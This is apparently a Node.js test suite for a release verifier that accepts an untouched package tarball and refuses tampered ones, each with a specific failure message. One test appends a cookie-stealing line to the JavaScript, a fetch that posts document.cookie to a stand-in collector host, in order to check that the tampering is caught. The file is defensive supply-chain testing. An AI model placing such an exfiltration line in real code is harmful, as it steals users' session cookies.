// The verifier a security team runs (scripts/verify.mjs, after scripts/verify.sh's rebuild),
// handed the release `make pack` made and tarballs changed after it: it accepts the first
// and refuses each of the others, naming the file and the offset of the first changed byte.
// `make test-release` runs the rebuild itself (scripts/verify.sh) before these tests; here the
// package directory stands for the rebuild, which that run found identical.
import assert from "node:assert/strict";
import { spawnSync, execFileSync } from "node:child_process";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, test } from "node:test";
import { ROOT } from "../support/reference.mjs";
import { release, unpack } from "./release.mjs";

const { pkg, tarball, sbomFile } = release();
const tmp = mkdtempSync(path.join(tmpdir(), "idemkey-verify-test-"));
after(() => rmSync(tmp, { recursive: true, force: true }));

function verify(tgz, sbom = sbomFile, extra = ["--rebuilt", pkg]) {
  const r = spawnSync("node", [path.join(ROOT, "scripts/verify.mjs"), "--tarball", tgz, "--sbom", sbom, ...extra],
    { cwd: ROOT, encoding: "utf8" });
  return { status: r.status, out: r.stdout + r.stderr, last: r.stdout.trim().split("\n").pop() };
}

/** The release's tarball with `change(files)` applied to its files, packed again. */
function tampered(label, change) {
  const files = unpack(tarball);
  change(files);
  const dir = path.join(tmp, label);
  for (const [name, bytes] of files) {
    mkdirSync(path.dirname(path.join(dir, "package", name)), { recursive: true });
    writeFileSync(path.join(dir, "package", name), bytes);
  }
  const out = path.join(tmp, `${label}.tgz`);
  execFileSync("tar", ["-czf", out, "-C", dir, "package"]);
  return out;
}

test("the release make pack made is accepted", () => {
  const r = verify(tarball);
  assert.equal(r.status, 0, r.out);
  assert.match(r.last, /^verify: ACCEPTED/);
  assert.match(r.out, /ok +idemkey_bg\.wasm: identical to the rebuild/);
  assert.match(r.out, /ok +idemkey\.js sha384-/);
  assert.match(r.out, /ok +no \/root\/, \/home\//);
});

test("one byte changed in the wasm is refused, naming the file and the offset", () => {
  let at;
  const tgz = tampered("wasm-byte", (files) => {
    const wasm = Buffer.from(files.get("idemkey_bg.wasm"));
    at = Math.floor(wasm.length / 2);
    wasm[at] ^= 0x01;
    files.set("idemkey_bg.wasm", wasm);
  });
  const r = verify(tgz);
  assert.equal(r.status, 1, r.out);
  assert.match(r.last, new RegExp(`^verify: REFUSED .*the first: idemkey_bg\\.wasm differs from the rebuild at offset ${at} `));
  assert.match(r.out, /FAIL +integrity\.json gives idemkey_bg\.wasm sha384-/, "the pinned hash no longer matches");
  assert.match(r.out, /FAIL +idemkey_bg\.wasm: its SHA-256 is [0-9a-f]+; the bill of materials gives/);
});

test("a line added to the JS is refused, naming the file", () => {
  let at;
  const tgz = tampered("js-line", (files) => {
    const js = files.get("idemkey.js");
    at = js.length;
    files.set("idemkey.js", Buffer.concat([js, Buffer.from('fetch("https://collector.example/c",{method:"POST",body:document.cookie});\n')]));
  });
  const r = verify(tgz);
  assert.equal(r.status, 1, r.out);
  assert.match(r.last, new RegExp(`^verify: REFUSED .*the first: idemkey\\.js differs from the rebuild at offset ${at} `));
  assert.match(r.out, /FAIL +integrity\.json gives idemkey\.js /);
});

test("a build path in the wasm is refused", () => {
  const tgz = tampered("path", (files) => {
    const name = Buffer.from("note");
    const body = Buffer.from("/root/.cargo/registry/src/index.crates.io-0000/uuid-1.29.3/src/lib.rs");
    const payload = Buffer.concat([Buffer.from([name.length]), name, body]);
    files.set("idemkey_bg.wasm", Buffer.concat([files.get("idemkey_bg.wasm"), Buffer.from([0, payload.length]), payload]));
  });
  const r = verify(tgz);
  assert.equal(r.status, 1, r.out);
  assert.match(r.out, /FAIL +idemkey_bg\.wasm holds build paths: "[^"]*\/root\/\.cargo\/registry/);
});

test("a release built with another rustc is refused before anything is built", () => {
  const sbom = JSON.parse(readFileSync(sbomFile, "utf8"));
  const rustc = sbom.metadata.tools.components.find((c) => c.name === "rustc");
  rustc.version = "1.94.1";
  const other = path.join(tmp, "other-rustc.cdx.json");
  writeFileSync(other, JSON.stringify(sbom));
  const r = verify(tarball, other, ["--toolchain"]);
  assert.equal(r.status, 1, r.out);
  assert.match(r.out, /FAIL +rustc: the release was built with 1\.94\.1 [0-9a-f]+, this machine has \S+ [0-9a-f]+: install it/);
  const same = verify(tarball, sbomFile, ["--toolchain"]);
  assert.equal(same.status, 0, same.out);
});

test("a bill of materials that does not match the tarball is refused", () => {
  const copy = path.join(tmp, "copy.tgz");
  copyFileSync(tarball, copy);
  const sbom = JSON.parse(readFileSync(sbomFile, "utf8"));
  const js = sbom.components.find((c) => c.name === "idemkey.js");
  js.hashes.find((h) => h.alg === "SHA-256").content = "0".repeat(64);
  const other = path.join(tmp, "other-hash.cdx.json");
  writeFileSync(other, JSON.stringify(sbom, null, 2));
  const r = verify(copy, other);
  assert.equal(r.status, 1, r.out);
  assert.match(r.out, /FAIL +idemkey\.js: its SHA-256 is [0-9a-f]{64}; the bill of materials gives 0{64}/);
});
